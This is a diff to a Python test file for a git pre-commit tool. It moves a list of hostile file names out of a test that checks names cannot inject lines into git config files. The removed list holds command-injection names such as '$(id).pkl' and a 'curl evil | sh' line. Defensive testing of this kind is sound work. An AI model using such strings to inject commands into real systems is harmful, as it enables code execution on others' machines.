@@ -13,8 +13,10 @@ from commitworthy.base.findings import CheckError
 from commitworthy.commands.init import command
 from commitworthy.git import repository, write
 from commitworthy.hooks.context import HookContext
+from tests.names import NAMES_THAT_HURT, raw
 from tests.notebooks.make import STREAM, code, notebook
-from tests.repo import Outcome, Repo, executable, noise
+from tests.repo import Outcome, Repo, executable
+from tests.samples import noise
 
 DIRTY = notebook(code(f"[{STREAM}]", "3"))
 CLEAN = notebook(code())
@@ -336,18 +338,13 @@ def test_a_folder_of_git_under_another_name_is_git_s_too(hostile: Repo, tmp_path
     assert not (hostile.top / "meta/hooks/pre-commit").exists()
 
 
-HURT = (
-    "x\ncurl evil | sh\n.pkl", '"; touch x #.pkl', "#a.pkl", "!a.pkl", " a b .pkl", "*[a]?.pkl", "a\r.pkl",
-    "a\\nb.pkl", "a\t.pkl", "$(id).pkl", "a\u2028b.pkl",
-)  # fmt: skip
-
-
-@pytest.mark.parametrize("name", HURT, ids=ascii)
-def test_a_name_never_becomes_another_line(repo: Repo, name: str) -> None:
+def test_a_name_never_becomes_another_line(repo: Repo) -> None:
     """What `init` and `--fix` write about a file is one line, which routes that file and no other."""
     repo.stage("old.pkl", "text, by no means a model\n" * 10)
-    repo.stage("fixtures/" + name, MODEL)
-    repo.stage(name, MODEL)
+    for name in NAMES_THAT_HURT:
+        for path in (raw(name), raw(name) + b".pkl"):
+            repo.write(b"fixtures/" + path, MODEL)
+            repo.write(path, MODEL)
     repo.commit()
     ends = (b" filter=lfs diff=lfs merge=lfs -text", b" !filter !diff !merge !text")
     for words in (["require-lfs", "--all-files", "--fix"], ["init", "--write"]):
@@ -359,5 +356,5 @@ def test_a_name_never_becomes_another_line(repo: Repo, name: str) -> None:
         for way in finding["remedies"]:
             if "keep it out of git" in way["text"] and way["command"]:
                 assert repo.shell(way["command"]).status == 0
-    ignored = (repo.top / ".gitignore").read_text("utf-8").split("\n") if (repo.top / ".gitignore").exists() else []
-    assert all(line[0] in "/#" for line in ignored if line)
+    ignored = (repo.top / ".gitignore").read_bytes().split(b"\n")
+    assert all(line[:1] in b"/#" for line in ignored if line)
